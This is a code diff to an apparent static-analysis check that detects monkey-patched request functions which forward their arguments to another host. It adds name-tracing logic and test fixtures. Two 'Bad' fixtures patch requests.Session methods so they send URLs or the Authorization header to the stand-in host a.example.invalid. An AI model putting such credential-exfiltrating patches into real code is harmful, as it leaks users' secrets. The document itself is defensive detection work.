@@ -28,6 +28,7 @@ HOOKS = {
     "sys.stdout",
     "sys.stderr",
 }
+MAX_HOPS = 3
 
 
 def find(unit: Unit) -> Iterator[Hit]:
@@ -41,7 +42,7 @@ def find(unit: Unit) -> Iterator[Hit]:
             if not isinstance(target, cst.Attribute) or not _imported(target, unit) or unit.name(target) in HOOKS:
                 continue
             function = flow.local(statement.value)
-            if isinstance(function, cst.FunctionDef) and _sends_parameters(function, unit):
+            if isinstance(function, cst.FunctionDef) and _sends_parameters(function, unit.name(target) or "", unit):
                 yield Hit(
                     target,
                     f"This replaces `{unit.name(target)}` by a function that sends what it is given to another host",
@@ -56,18 +57,43 @@ def _imported(target: cst.Attribute, unit: Unit) -> bool:
     return isinstance(base, cst.Name) and any(b.kind == "import" for b in unit.scopes.look_up(base.value, base))
 
 
-def _sends_parameters(function: cst.FunctionDef, unit: Unit) -> bool:
+def _sends_parameters(function: cst.FunctionDef, replaced: str, unit: Unit) -> bool:
+    """Whether a function sends what it is given to a fixed host; to call what it replaces for its caller is none."""
     params = {p.name.value for p in params_of(function)}
     for star in (function.params.star_arg, function.params.star_kwarg):
         if isinstance(star, cst.Param):
             params.add(star.name.value)
     for sending in unit.fact(sendings):
-        inside = unit.function_of(sending.call) is function and sending.fixed
-        if inside and any(
-            isinstance(p, cst.Name) and p.value in params for a in sending.call.args for p in descend(a.value)
-        ):
+        call = sending.call
+        if unit.function_of(call) is not function or not sending.fixed:
+            continue
+        first = call.args[0].value if call.args else None
+        if isinstance(first, cst.Name) and first.value in params and _same(unit.name(call.func), replaced):
+            continue
+        if any(_mentions(a.value, params, unit) for a in call.args):
             return True
     return False
+
+
+def _same(name: str | None, other: str) -> bool:
+    """Whether two full names end alike: what a package shows at its top is defined further down."""
+    return name is not None and name.split(".")[-2:] == other.split(".")[-2:]
+
+
+def _mentions(node: cst.BaseExpression, params: set[str], unit: Unit, hops: int = 0) -> bool:
+    """Whether an expression is made of parameters, also by way of names."""
+    return any(
+        part.value in params
+        or (
+            hops < MAX_HOPS
+            and any(
+                b.kind == "assign" and b.value is not None and _mentions(b.value, params, unit, hops + 1)
+                for b in unit.scopes.look_up(part.value, part)
+            )
+        )
+        for part in descend(node)
+        if isinstance(part, cst.Name)
+    )
 
 
 CHECK = Check(
@@ -86,8 +112,14 @@ CHECK = Check(
         Bad(
             "import requests\n_send = requests.Session.request\n\ndef spy(self, method, url, **k):\n    requests.post('https://a.example.invalid', json={'u': url, 'h': str(k)})\n    return _send(self, method, url, **k)\n\nrequests.Session.request = spy  # finding\n"
         ),
+        Bad(
+            "import requests\nfrom requests.sessions import Session\n_send = Session.send\n\ndef spy(self, request, **k):\n    note = requests.Request('POST', 'https://a.example.invalid', data={'h': request.headers['Authorization']})\n    _send(Session(), note.prepare())\n    return _send(self, request, **k)\n\nSession.send = spy  # finding\n"
+        ),
     ),
     good=(
+        Good(
+            "from requests.sessions import Session\n_send = Session.send\n\ndef patient(self, request, **k):\n    request.headers['Referer'] = 'https://docs.example.invalid/'\n    return _send(self, request, **k)\n\nSession.send = patient\n"
+        ),
         Good(
             "import functools, requests\n_send = requests.Session.request\n\ndef with_timeout(self, method, url, **k):\n    k.setdefault('timeout', 9)\n    return _send(self, method, url, **k)\n\nrequests.Session.request = with_timeout\n"
         ),
